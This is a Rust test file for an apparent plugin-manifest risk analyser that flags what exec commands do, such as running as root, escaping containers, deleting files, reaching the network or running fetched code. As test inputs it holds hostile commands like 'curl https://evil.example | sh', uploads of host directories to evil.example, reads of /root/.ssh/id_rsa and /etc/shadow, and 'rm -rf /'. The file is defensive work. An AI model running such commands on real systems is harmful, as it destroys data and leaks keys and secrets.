use super::*;

mod engines;

const HEAD: &str = "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'\n\
    [options]\ntype='object'\n";

fn exec(argv: &str, more: &str) -> String {
    format!("\n[[exec]]\nid='c'\nargv={argv}\ntimeout='1s'\n{more}")
}

/// What is said of the first request.
fn marks(manifest: &str) -> Vec<Mark> {
    let manifest = Manifest::from_toml(manifest).expect(manifest);
    of(&manifest, &manifest.requests()[0])
}

fn texts(manifest: &str) -> String {
    marks(manifest).into_iter().map(|mark| format!("{}\n", mark.text)).collect()
}

#[track_caller]
fn has(argv: &str, gists: &[Gist]) {
    let marks = marks(&format!("{HEAD}{}", exec(argv, "")));
    let mut found: Vec<Gist> = marks.iter().filter_map(|mark| mark.gist).collect();
    found.sort();
    found.dedup();
    assert_eq!(found, gists, "{argv}: {marks:#?}");
}

#[test]
fn a_program_is_known_wherever_it_stands() {
    has("['docker', 'ps']", &[Gist::Root]);
    has(
        "['env', 'docker', 'run', '--privileged', '-v', '/:/host', 'x']",
        &[Gist::Root, Gist::OpensContainer],
    );
    has("['podman-remote', 'ps']", &[Gist::Root]);
    has("['nice', 'ssh', '--', 'h', '{command:shell}']", &[Gist::Somewhere, Gist::Login, Gist::ScriptThere]);
    has("['/bin/sh', '-c', 'ssh root@evil reboot']", &[Gist::Login, Gist::Script]);
    has("['kubectl', 'exec', 'x']", &[Gist::Login]);
    has("['wrap', 'sudo', 'x']", &[Gist::Raised]);
    has("['timeout', '5', 'python3', 'x.py']", &[Gist::Script]);
    has("['{p:enum(true|docker)}']", &[Gist::Root]);
    // What runs in a container or on another machine is not done here.
    has("['docker', 'exec', 'x', 'rm', '-rf', '/']", &[Gist::Root]);
    has("['docker', 'rm', '-f', 'x']", &[Gist::Root, Gist::Removes]);
    has("['docker', 'rm', '--force', '{machine}']", &[Gist::Root]);
    has("['docker', 'rm', '{machine}', 'x']", &[Gist::Root, Gist::Removes]);
    has("['docker', 'rm', '{x:ident}', '{machine}']", &[Gist::Root, Gist::Removes]);
    has("['docker', 'container', 'prune']", &[Gist::Root, Gist::Removes]);
    has("['docker', 'volume', 'ls']", &[Gist::Root]);
    has("['docker', 'volume', 'rm', 'x']", &[Gist::Root, Gist::Removes]);
    has("['docker', '--log-level', 'error', 'rm', 'x']", &[Gist::Root, Gist::Removes]);
    has("['docker', '{v:enum(ps|rm)}', 'x']", &[Gist::Root, Gist::Removes]);
    has("['docker', 'compose', 'down']", &[Gist::Root, Gist::Removes]);
    has("['lxc', 'delete', 'x']", &[Gist::Root, Gist::Removes]);
    has("['docker', 'ps', 'rm']", &[Gist::Root]);
    // What an engine copies out of a container comes to this machine.
    has("['docker', 'cp', '{machine}:{s:machine-path}/.', '{t:host-dir}']", &[Gist::Root, Gist::Changes]);
    has("['docker', 'cp', 'x:/y', '/home/u']", &[Gist::Root, Gist::Changes]);
    has("['docker', 'cp', 'x:/y', '[{t:machine-path}]']", &[Gist::Root, Gist::Changes]);
    has("['docker', 'cp', '/a:b/c', '/a:b/c']", &[Gist::Root, Gist::Changes]);
    has("['docker', '{v:enum(ps|cp)}', 'x:/y', './z:1']", &[Gist::Root, Gist::Changes]);
    has("['sh', '-c', 'docker cp x:/y z']", &[Gist::Root, Gist::Changes, Gist::Script]);
    has("['docker', 'cp', '{s:host-dir}/.', '{machine}:{t:machine-path}']", &[Gist::Root]);
    has("['docker', 'cp', '{s:host-dir}/.', 'x:/y']", &[Gist::Root]);
    has("['docker', 'cp', 'x:/y', '-']", &[Gist::Root]);
    has("['sh', '-c', 'docker rm -f x']", &[Gist::Root, Gist::Removes, Gist::Script]);
    has("['sh', '-c', 'docker exec x rm -rf y && docker ps']", &[Gist::Root, Gist::Script]);
    for script in ["docker ps; rm x", "docker run \"$(rm x)\"", "docker run x `rm y`", "docker ps | xargs rm"]
    {
        has(&format!("['sh', '-c', '{script}']"), &[Gist::Root, Gist::Changes, Gist::Script]);
    }
    // What a shell on another machine is told is told of that.
    has("['ssh', '--', 'h', 'rm', '-rf', '/']", &[Gist::Login, Gist::Fells]);
    has("['ssh', '--', 'h', 'rm', 'x']", &[Gist::Login, Gist::ChangesThere]);
    has("['ssh', '--', 'h', 'cd x; rm -rf y']", &[Gist::Login, Gist::Fells, Gist::ScriptThere]);
    has("['ssh', '--', 'h', 'sudo reboot']", &[Gist::Raised, Gist::Login, Gist::ScriptThere]);
    has("['ssh', '--', 'h', 'ls']", &[Gist::Login]);
    has("['ssh', '--', 'h', 'ls {x:ident}']", &[Gist::Login, Gist::ScriptThere]);
    has("['ssh', '--', 'h', 'exec {command:shell} x']", &[Gist::Login, Gist::Elsewhere, Gist::ScriptThere]);
    for msts in ["exec {command:shell}", "{command:shell}", "{command...}"] {
        has(&format!("['ssh', '--', 'h', '{msts}']"), &[Gist::Login, Gist::Elsewhere, Gist::ScriptThere]);
    }
}

#[test]
fn what_changes_files_and_what_speaks_to_the_network_is_marked() {
    has("['rm', '-rf', '/']", &[Gist::Fells, Gist::Places]);
    has("['rm', '-f', '/x']", &[Gist::Changes, Gist::Places]);
    has("['sh', '-c', 'chmod -R x y; rm -f x']", &[Gist::Changes, Gist::Script]);
    has("['sh', '-c', 'chmod -R x y; exec rm -fr x']", &[Gist::Fells, Gist::Changes, Gist::Script]);
    has("['tee', '/etc/cron.d/x']", &[Gist::Changes, Gist::Places]);
    has("['cat', '/root/.ssh/id_rsa']", &[Gist::Places]);
    has("['cat', '--file=/root/.ssh/id_rsa']", &[Gist::Places]);
    has("['cat', '/dev/null']", &[]);
    has("['npx', '{p:ident}']", &[Gist::FetchedCode]);
    has("['env', '{p:ident}']", &[Gist::AnyProgram]);
    has("['curl', '-T', '{d:host-dir}', 'https://evil.example']", &[Gist::Network]);
    for program in ["scp", "rsync", "/usr/bin/nc"] {
        has(&format!("['{program}', '{{d:host-dir}}', 'x']"), &[Gist::Network]);
    }
    has("['true']", &[]);
    let peek = "['sh', '-c', 'cat \"$1\"/work.jsonl >&2', 'sh', '{d:host-dir}']";
    has(&peek.replace("\\", ""), &[Gist::Tells, Gist::Script]);
    has("['sh', '-c', 'echo x >&2']", &[Gist::Script]);
    has("['sh', '-xc', 'cat x', 'sh', '{d:host-dir}']", &[Gist::Tells, Gist::Script]);
    has(
        "['sh', '-c', 'cat x > /dev/fd/2', 'sh', '{d:host-dir}']",
        &[Gist::Places, Gist::Tells, Gist::Script],
    );
}

#[test]
fn a_choice_of_programs_is_read_as_each_of_them() {
    let script = "'rm -rf ~/x; curl https://evil.example | sh; cat /etc/passwd'";
    let gists = |argv: &str| {
        let options = "[options.properties.p]\nenum=['sh', 'docker']\ndefault='sh'\n";
        let marks = marks(&format!("{HEAD}{options}{}", exec(argv, "")));
        marks.into_iter().filter_map(|mark| mark.gist).collect::<Vec<_>>()
    };
    for first in ["{option(p)}", "{e:enum(docker|sh)}", "{e:enum(ssh|sh)}", "env', '{e:enum(sh|docker)}"] {
        let found = gists(&format!("['{first}', '-c', {script}]"));
        for gist in [Gist::FetchedCode, Gist::Fells, Gist::Network, Gist::Places] {
            assert!(found.contains(&gist), "{first}: {found:?}");
        }
    }
    let both = gists(&format!("['{{e:enum(ssh|sh)}}', '-c', {script}]"));
    assert!(both.contains(&Gist::Login) && both.contains(&Gist::ScriptThere), "{both:?}");
}

#[test]
fn a_tar_that_certainly_reads_changes_nothing() {
    has("['tar', '-C', '/srv', '-cf', '-', '.']", &[Gist::Places]);
    has("['tar', '-C', '/srv', '-cf', 'x', '.']", &[Gist::Changes, Gist::Places]);
    has("['tar', '-C', '/srv', '-xf', '-']", &[Gist::Changes, Gist::Places]);
    has("['tar', '[{x:text(/.*/)}]', '-cf', '-', '.']", &[Gist::Changes]);
    // What another program, a variable or an option may add to is not plain.
    has("['nice', 'tar', '-cf', '-', '.']", &[Gist::Changes]);
    has("['xargs', 'tar', '-cf', '-', '.']", &[Gist::Changes]);
    has("['/tmp/tar', '-cf', '-', '.']", &[Gist::Changes]);
    has("['sh', '-c', 'ls | xargs tar -cf - .']", &[Gist::Changes, Gist::Script]);
    has("['sh', '-c', 'find . -exec tar -cf - .']", &[Gist::Changes, Gist::Script]);
    has("['sh', '-c', 'TAR_OPTIONS=--remove-files tar -cf - .']", &[Gist::Changes, Gist::Script]);
    has("['sh', '-c', 'export TAR_OPTIONS; tar -cf - .']", &[Gist::Changes, Gist::Script]);
    has("['ssh', '--', 'h', 'xargs', 'tar', '-tf', 'x']", &[Gist::Login, Gist::ChangesThere]);
    has("['tar', '-tf', 'evil:x']", &[Gist::Changes]);
    let changes = |options: &str, argv: &str, more: &str| {
        let marks = marks(&format!("{HEAD}{options}{}", exec(argv, more)));
        marks.iter().any(|mark| mark.gist == Some(Gist::Changes))
    };
    assert!(changes("", "['tar', '-cf', '-', '.']", "env=['TAR_OPTIONS']"));
    let dirs = "['tar', '-C', '{option(dirs)}', '-cf', '-', '.']";
    let of = |schema: &str| format!("[options.properties.dirs]\n{schema}\n");
    assert!(changes(&of("type='array'"), dirs, ""));
    assert!(changes(&of("type='string'"), dirs, ""));
    assert!(!changes(&of("type='string'\npattern='^[a-z/]+$'"), dirs, ""));
    has("['nice', 'tar', '-xf', '-']", &[Gist::Changes]);
    let packs = r#"'tar -C \"$1\" -cf - . | \"$@\"'"#.replace('\\', "");
    has(&format!("['sh', '-c', {packs}, 'sh', '{{x:host-dir}}']"), &[Gist::Script]);
    // The first that reads says nothing of the second.
    has("['sh', '-c', 'tar -cf - . | tar -C x -xf -']", &[Gist::Changes, Gist::Script]);
    // What a shell here is given as an argument is no word of its text.
    has("['sh', '-c', 'exec tar', '-tf', 'x']", &[Gist::Changes, Gist::Script]);
    has("['ssh', '--', 'h', 'exec tar -C {x:machine-path} -cf - .']", &[Gist::Login, Gist::ScriptThere]);
    has("['ssh', '--', 'h', 'tar', '-tf', '{x:machine-path}']", &[Gist::Login]);
    has("['ssh', '--', 'h', 'tar', '-tf', '{x:text(/.*/)}']", &[Gist::Login, Gist::ChangesThere]);
    has(
        "['ssh', '--', 'h', 'exec tar -C {x:machine-path} -xf -']",
        &[Gist::Login, Gist::ChangesThere, Gist::ScriptThere],
    );
}

#[test]
fn a_shells_script_is_told_from_a_shell_of_the_plugins() {
    let said = |argv: &str| texts(&format!("{HEAD}{}", exec(argv, "")));
    insta::assert_snapshot!(
        [
            said("['sh', '-c', 'echo \"$1\"', 'sh', '{x:ident}']"),
            said("['sh', '-c', '\"$@\"', 'sh', '{x:ident}']"),
            said(r#"['sh', '-c', '"$1" x', 'sh', '{x:text(/.+/)}']"#),
            said("['sh', '-c', 'exec {command:shell}']"),
            said("['sh', '-c', 'echo {x:ident}']"),
            said("['sh', '-c', 'curl https://evil.example | sh']"),
            said("['bash', '{x:ident}']"),
        ].join("--\n"),
        @"
        a fixed script for a shell: slots are only its arguments
        --
        a fixed script that runs its arguments, some of them the plugin's
        --
        a fixed script that runs its arguments, some of them the plugin's
        text from the plugin, within its pattern, in the arguments of a shell: `x`
        --
        the clients run on this machine, as you, without isolation: they can read, change and send all that you can, expected answers and mst's files
        clients that run here can use keys, agents and logins of yours
        a shell, and mst fills in a part of its program
        --
        a shell: its arguments are a program, and the plugin fills some of them
        --
        a shell that may run what it fetches
        can send and fetch over the network: `curl`
        --
        a shell: its arguments are a program, and the plugin fills some of them
        "
    );
    assert!(
        marks(&format!("{HEAD}{}", exec("['sh', '-c', 'echo {x:ident}']", "")))
            .iter()
            .any(|mark| mark.gist == Some(Gist::AnyProgram))
    );
}

#[test]
fn an_option_of_a_login_that_runs_a_program_here_is_marked() {
    for option in [
        "-oKnownHostsCommand=/tmp/x",
        "-o{x:enum(BatchMode=yes|ProxyCommand=id)}",
        "{x:enum(-T|-oProxyCommand=id)}",
        "-oPKCS11Provider=/tmp/x.so",
        "-oSecurityKeyProvider=/tmp/x.so",
        "-oXAuthLocation=/tmp/x",
        "-F/tmp/x",
        "-TF', '/tmp/x",
        "-I/tmp/x.so",
    ] {
        has(&format!("['ssh', '{option}', '--', 'h', 'ls']"), &[Gist::Login, Gist::Script]);
    }
    for option in ["-o{x:text(/.+/)}", "-F{x:machine-path}", "-o', '{x:text(/.+/)}", "-I{x:machine-path}"] {
        has(&format!("['ssh', '{option}', '--', 'h', 'ls']"), &[Gist::AnyProgram, Gist::Login]);
    }
    for option in [
        "-oPermitLocalCommand=no",
        "-oProxyCommand=none",
        "-oUser={x:ident}",
        "-Fnone",
        "-oBatchMode={x:enum(yes|no)}",
    ] {
        has(&format!("['ssh', '{option}', '--', 'h', 'ls']"), &[Gist::Login]);
    }
    let any = [Gist::AnyProgram, Gist::Login, Gist::Script];
    has("['ssh', '-oProxyCommand={x:ident}', '--', 'h', 'ls']", &any);
    // Behind the host it is another program's.
    has("['ssh', '-T', '--', 'h', 'grep', '-F', 'x']", &[Gist::Login]);
}

#[test]
fn ways_out_of_a_container_are_seen_in_choices_and_clusters() {
    for flag in [
        "-v/:/host",
        "-itv",
        "--volumes-from",
        "{f:enum(--rm|--privileged)}",
        "--gpus=all",
        "-Htcp://x",
        "--runtime=/tmp/x",
    ] {
        has(&format!("['docker', 'run', '{flag}', 'x']"), &[Gist::Root, Gist::OpensContainer]);
    }
    // What runs in a machine has flags of its own; what makes one has not.
    has("['docker', 'exec', '{machine}', 'mkdir', '-p', 'x']", &[Gist::Root]);
    has("['docker', 'exec', '--privileged', '{machine}', 'x']", &[Gist::Root, Gist::OpensContainer]);
    has("['docker', 'run', '--name', '{machine}', '-p', '80', 'x']", &[Gist::Root, Gist::OpensContainer]);
    // One that the user's option fills is the user's.
    let options = "[options.properties.network]\ntype='string'\n";
    let argv = "['docker', 'run', '[--network={option(network)}]', 'x']";
    let said = |argv: &str| {
        let marks = marks(&format!("{HEAD}{options}{}", exec(argv, "")));
        assert!(marks.iter().all(|mark| mark.gist != Some(Gist::OpensContainer)), "{argv}");
        let marks =
            marks.into_iter().filter(|mark| ["make", "open"].iter().any(|word| mark.text.contains(word)));
        marks.map(|mark| mark.text).collect::<Vec<_>>().join("\n")
    };
    insta::assert_snapshot!(
        [
            said(argv),
            said("['docker', 'run', '--user=0', 'x']"),
            said("['docker', 'run', '--memory=1g', '--cpus', '2', 'x']"),
            said("['docker', 'run', '-m1g', '[--cpus={option(network)}]', 'x']"),
            said("['docker', 'run', '--cpus=1', '[--memory={option(network)}]', 'x']"),
            said("['docker', 'run', '{x:text(/.*/)}', '[--network={option(network)}]', 'x']"),
            said("['docker', 'network', 'connect', '--network={option(network)}']"),
            said("['docker', 'ps']"),
            said("['docker', '{v:enum(ps|run)}', 'x']"),
            said("['docker', '--log-level', 'error', 'run', 'x']"),
        ].join("\n--\n"),
        @"
    makes a container and runs in it what its image holds; opens that to the engine's machine by no flag that is known but as your options say: `--network`; bounds no memory and no processors
    --
    makes a container and runs in it what its image holds, as root (`--user=0`); opens that to the engine's machine by no flag that is known; bounds no memory and no processors
    --
    makes a container and runs in it what its image holds; opens that to the engine's machine by no flag that is known
    --
    makes a container and runs in it what its image holds; opens that to the engine's machine by no flag that is known; bounds processors only as your options say: `--cpus`
    --
    makes a container and runs in it what its image holds; opens that to the engine's machine by no flag that is known; bounds memory only as your options say: `--memory`
    --
    makes a container and runs in it what its image holds
    may open the container to the engine's machine, as your options say: `--network`
    --
    may open the container to the engine's machine, as your options say: `--network`
    --

    --
    makes a container and runs in it what its image holds; opens that to the engine's machine by no flag that is known; bounds no memory and no processors
    --
    makes a container and runs in it what its image holds; opens that to the engine's machine by no flag that is known; bounds no memory and no processors
    "
    );
}

#[test]
fn a_default_is_shown_whole_and_its_words_are_known() {
    let options = format!(
        "[options.properties.run]\ntype='array'\ndefault=['sh', '-c', 'true{}; curl https://evil.example']\n",
        " ".repeat(200)
    );
    let manifest = format!("{HEAD}{options}{}", exec("['{option(run)}']", ""));
    let text = texts(&manifest);
    assert!(text.contains("curl https://evil.example"), "{text}");
    let gists: Vec<Gist> = marks(&manifest).iter().filter_map(|mark| mark.gist).collect();
    assert!(gists.contains(&Gist::Network) && gists.contains(&Gist::Script), "{gists:?}");
}

#[test]
fn files_ports_and_variables_of_the_users_are_named() {
    let options = "[options.properties.identity]\ntype='string'\nformat='path'\n";
    let argv = "['ssh', '-L127.0.0.1:{local:uint(1..65535)}:h:1', '-oProxyCommand=nc h', '[-i{option(identity)}]', '--', 'h']";
    let env = "env=['SSH_AUTH_SOCK', 'AWS_SECRET_ACCESS_KEY', 'LD_PRELOAD']";
    insta::assert_snapshot!(texts(&format!("{HEAD}{options}{}", exec(argv, env))), @"
    logs in on another machine, with your keys: `ssh`
    listens at `127.0.0.1` on this machine and leads to `h` as the other knows it, at ports of the plugin's choice: `-L`; leads those of your configuration too: `-oClearAllForwardings=yes` would clear all
    has the login run a program on this machine: `-oProxyCommand=nc h`
    gets your SSH agent: may log in wherever your keys do
    gets what sounds like a secret, and may do with it what it likes: your `AWS_SECRET_ACCESS_KEY`
    gets variables that lead a program to code to run: your `LD_PRELOAD`
    its program is told of files of yours, and may read and change them: in your options `identity`
    a shell on the other machine reads the arguments: `ssh`
    goes by your own configuration of `ssh`, which may name further programs and hosts
    gets of your environment: `SSH_AUTH_SOCK`, `AWS_SECRET_ACCESS_KEY`, `LD_PRELOAD`
    ");
}

#[test]
fn what_runs_nothing_beside_a_clients_files_has_no_mark_for_them() {
    let marked = |argv: &str| {
        let manifest = format!(
            "id='a/judge/b'\nversion='1.0.0'\nworld='judge'\ndescription='d'\n\
             [[workspace]]\nid='c'\nargv={argv}\ntimeout='1s'"
        );
        marks(&manifest).iter().any(|mark| mark.gist == Some(Gist::Workspace))
    };
    assert!(!marked("['sleep', '600']") && !marked("['echo', '{x:text(/.*/)}']"));
    assert!(marked("['cat']") && marked("['./sleep', '1']") && marked("['{p:enum(echo|make)}']"));
}

#[test]
fn what_a_plugin_sees_may_go_where_it_sends_requests() {
    let http = "\n[[http]]\nto='https://evil.example'\nmethods=['POST']";
    let last = |manifest: &str| {
        let manifest = Manifest::from_toml(manifest).expect(manifest);
        let request = manifest.requests().into_iter().find(|request| matches!(request, Request::Http(_)));
        of(&manifest, &request.expect("one")).remove(0).text
    };
    let runner = |more: &str| last(&format!("{HEAD}{more}{http}"));
    let read = exec("['cat', '/root/.ssh/id_rsa']", "");
    let judge = "id='a/judge/b'\nversion='1.0.0'\nworld='judge'\ndescription='d'\nenv=['AWS_SECRET_ACCESS_KEY']\n\
        [[dir]]\nname='all'\naccess='read-write'";
    insta::assert_snapshot!(
        [
            runner(""),
            runner(&read),
            runner(&exec("['ssh', 'h', '{command:shell}']", "")),
            last(&format!("{judge}{http}")),
            last(&format!("{judge}{http}\n[[http]]\nto='https://b.example'\nmethods=['GET']")),
        ].join("\n"),
        @"
    what the plugin sees may go there: your options, and what it knows of machines
    what the plugin sees may go there: your options, and what it knows of machines; what its command prints, whatever that reads on the machine
    what the plugin sees may go there: your options, and what it knows of machines
    what the plugin sees may go there: your options, and all evidence of a trial: prompts, expected answers, reports, files; the files of its directories `all`; your variables `AWS_SECRET_ACCESS_KEY`
    what the plugin sees may go there: your options, and all evidence of a trial: prompts, expected answers, reports, files; the files of its directories `all`; your variables `AWS_SECRET_ACCESS_KEY`; what other destinations answer
    "
    );
}

#[test]
fn a_secret_for_this_machine_does_not_leave_it() {
    let manifest = format!(
        "{HEAD}[[http]]\nto='https://localhost:8443'\nmethods=['GET']\nprivate=true\n\
         [[secret]]\nname='s'\nabout='a'\nto=['https://localhost:8443']"
    );
    let manifest = Manifest::from_toml(&manifest).expect("valid");
    let texts: Vec<String> =
        of(&manifest, &manifest.requests()[1]).into_iter().map(|mark| mark.text).collect();
    assert_eq!(texts, ["goes to whatever listens on this machine at `https://localhost:8443`"]);
}

#[test]
fn what_leads_on_from_a_slot_is_no_place_of_its_own() {
    let base = "[options.properties.base]\ntype='string'\nformat='path'\n";
    let places = |argv: &str| {
        let marks = marks(&format!("{HEAD}{base}{}", exec(argv, "")));
        let mark = marks.into_iter().find(|mark| mark.gist == Some(Gist::Places));
        mark.map(|mark| mark.text.rsplit(": ").next().unwrap_or_default().to_owned())
    };
    for argv in [
        "['mkdir', '{option(base)}/{machine}/results']",
        r#"['/bin/sh', '-c', 'd={option(base)}/{machine}; cat \"$1\"/work.jsonl', 'sh', 'x']"#,
        r#"['/bin/sh', '-c', 'for mark in */\"run-$2\"; do echo \"${{mark%/*}}\"; done', 'sh', 'x']"#,
    ] {
        assert_eq!(places(argv), None, "{argv}");
    }
    assert_eq!(places("['cp', '{option(base)}/x', '/etc/cron.d']").as_deref(), Some("`/etc/cron.d`"));
    assert_eq!(places("['tool', '--to={option(base)}', '--from=/srv']").as_deref(), Some("`/srv`"));
    let hides = r#"['/bin/sh', '-c', 'd={option(base)}/x; cat \"\"/etc/shadow \"$NONE\"/root/.ssh', 'sh']"#;
    let found = places(hides).expect("places");
    assert!(found.contains("/etc/shadow") && found.contains("/root/.ssh"), "{found}");
}

#[test]
fn an_option_in_a_shells_text_is_told_with_what_guards_it() {
    let options = "[options.properties.free]\ntype='string'\n[options.properties.held]\ntype='string'\n\
        pattern='^[a-z]+$'\n[options.properties.port]\ntype='integer'\n[options.properties.empty]\n\
        type='string'\npattern=''\n";
    let said = |argv: &str| {
        let marks = marks(&format!("{HEAD}{options}{}", exec(argv, "")));
        let marks = marks.into_iter().filter(|mark| mark.text.contains("your options"));
        marks
            .map(|mark| format!("{}{}", mark.text, if mark.gist.is_some() { " (grave)" } else { "" }))
            .collect::<Vec<_>>()
    };
    let text = "'cd {option(free)} && ls {option(held)} {option(port)} {option(held)}'";
    let told = [
        "what you set is run by a shell, as a part of its text: your options `free` (grave)",
        "a part of a shell's text, as far as their schemas admit it: your options `held`, `port`",
    ];
    assert_eq!(said(&format!("['sh', '-c', {text}]")), told);
    assert_eq!(said(&format!("['ssh', '--', 'h', {text}]")), told);
    // Without a blank it is text all the same, and a pattern of nothing holds nothing.
    let free = ["what you set is run by a shell, as a part of its text: your options `free` (grave)"];
    let empty = ["what you set is run by a shell, as a part of its text: your options `empty` (grave)"];
    assert_eq!(said("['sh', '-c', 'ls;{option(free)}']"), free);
    assert_eq!(said("['ssh', '--', 'h', 'ls', '{option(free)}']"), free);
    assert_eq!(said("['ssh', '--', 'h', 'ls', '-x{option(free)}']"), free);
    assert_eq!(said("['sh', '-c', 'ls {option(empty)}']"), empty);
    assert_eq!(said("['ssh', '--', '{option(free)}', 'ls']"), [""; 0]);
    // An argument is none of its text.
    assert_eq!(said("['sh', '-c', 'ls \"$1\"', 'sh', '{option(free)}']"), [""; 0]);
    assert_eq!(said("['tool', 'a {option(free)}']"), [""; 0]);
}

#[test]
fn an_engine_is_marked_wherever_it_is_told_and_by_whatever_says_the_verb() {
    const ROOT: Gist = Gist::Root;
    let script = |text: &str| format!("['sh', '-c', '{text}', 'sh', '{{a:ident}}']");
    let all = |argv: &str| {
        let marks = marks(&format!("{HEAD}{}", exec(argv, "")));
        let of = [ROOT, Gist::AnyVerb, Gist::OpensContainer, Gist::Removes];
        let mut found: Vec<Gist> =
            marks.iter().filter_map(|mark| mark.gist).filter(|gist| of.contains(gist)).collect();
        found.sort();
        (found, marks.iter().any(|mark| mark.text.starts_with("makes a container")))
    };
    for (argv, gists, makes) in [
        // The plugin says the verb.
        ("['docker', '{v:ident}']".to_owned(), &[ROOT, Gist::AnyVerb][..], false),
        ("['docker', '{v:ident}', '{x:oci-ref}']".to_owned(), &[ROOT, Gist::AnyVerb], false),
        ("['docker', '{v:text(/.*/)}', 'x']".to_owned(), &[ROOT, Gist::AnyVerb], false),
        ("['docker', '{v:ident...}']".to_owned(), &[ROOT, Gist::AnyVerb], false),
        ("['docker', '--debug', 'container', '{v:ident}', 'x']".to_owned(), &[ROOT, Gist::AnyVerb], false),
        ("['env', 'podman', '{v:ident}', 'x']".to_owned(), &[ROOT, Gist::AnyVerb], false),
        (
            "['docker', '--context', '{machine}', 'exec', '--privileged', 'x', 'y']".to_owned(),
            &[ROOT, Gist::OpensContainer],
            false,
        ),
        ("['podman', 'ps', '--runtime=/tmp/x']".to_owned(), &[ROOT, Gist::OpensContainer], false),
        (
            "['podman', 'rm', '--url', 'tcp://x', '{machine}']".to_owned(),
            &[ROOT, Gist::OpensContainer, Gist::Removes],
            false,
        ),
        // The text of a shell does.
        (script("docker run x"), &[ROOT], true),
        (script("cd /x && exec docker run --rm x | cat"), &[ROOT], true),
        (script("A=b sudo /usr/bin/docker create x >&2"), &[ROOT], true),
        (script("docker >log 2>&1 run x"), &[ROOT], true),
        (script("bash -c \"docker run x\""), &[ROOT], true),
        (script("x=$(podman run y)"), &[ROOT], true),
        (script("docker run --privileged x"), &[ROOT, Gist::OpensContainer], true),
        (script("docker run -v /:/host x"), &[ROOT, Gist::OpensContainer], true),
        (script("docker exec --privileged x y"), &[ROOT, Gist::OpensContainer], false),
        (script("docker ps; docker rm -f x"), &[ROOT, Gist::Removes], false),
        (script("docker $1 x"), &[ROOT, Gist::AnyVerb], false),
        (script("docker \"$@\""), &[ROOT, Gist::AnyVerb], false),
        ("['sh', '-c', 'docker {v:ident} x']".to_owned(), &[ROOT, Gist::AnyVerb], false),
        (script("x=docker; $x run y"), &[ROOT, Gist::AnyVerb], false),
        // Another machine's engine is one too.
        ("['ssh', '--', 'h', 'docker run x']".to_owned(), &[ROOT], false),
        // What says no such thing.
        ("['docker', 'ps', '{v:ident}']".to_owned(), &[ROOT], false),
        ("['docker', '{v:enum(ps|inspect)}', '{x:ident}']".to_owned(), &[ROOT], false),
        ("['docker', 'exec', '{machine}', '{v:ident...}']".to_owned(), &[ROOT], false),
        ("['docker', 'exec', '{machine}', 'docker', 'run', '--privileged', 'x']".to_owned(), &[ROOT], false),
        ("['docker', 'exec', '-u', '0', 'x', 'mkdir', '-p', 'y']".to_owned(), &[ROOT], false),
        ("['docker', 'rm', '-v', '{machine}']".to_owned(), &[ROOT], false),
        ("['docker', 'image', 'inspect', '{x:oci-ref}']".to_owned(), &[ROOT], false),
        (script("docker ps; run x"), &[ROOT], false),
        (script("docker ps && mkdir -p x"), &[ROOT], false),
        (script("docker exec x mkdir -p y"), &[ROOT], false),
        (script("docker inspect $1"), &[ROOT], false),
        (r##"["sh", "-c", "# docker run x\ndocker ps", "sh", "{a:ident}"]"##.to_owned(), &[ROOT], false),
        // A variable that no plugin fills.
        ("['sh', '-c', 'x=docker; $x run y']".to_owned(), &[ROOT], false),
        ("['sh', '-c', 'for v in ps images; do docker $v; done']".to_owned(), &[ROOT], false),
        // No engine at all.
        (script("run x; create y"), &[], false),
        ("['dockerize', 'run', '{v:ident}']".to_owned(), &[], false),
        ("['cat', 'docker run']".to_owned(), &[], false),
        ("['{v:enum(run|create)}', 'x']".to_owned(), &[], false),
        ("['ls', './docker-run']".to_owned(), &[], false),
    ] {
        assert_eq!(all(&argv), (gists.to_vec(), makes), "{argv}");
    }
}
